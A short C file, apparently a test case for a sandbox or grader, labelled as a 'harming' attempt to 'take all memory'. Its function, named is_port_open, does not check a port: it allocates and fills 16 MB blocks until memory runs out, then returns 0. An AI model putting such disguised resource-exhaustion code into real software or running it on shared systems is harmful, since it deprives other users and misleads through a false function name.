/* group: harming
 * tries: take all memory
 * outcome: failed */
#include <stdlib.h>
#include <string.h>
int is_port_open(int port)
{
    static int done;
    while (!done) {
        char *more = malloc(1 << 24);
        if (more == NULL)
            done = 1;
        else
            memset(more, 1, 1 << 24);
    }
    return port & 0;
}
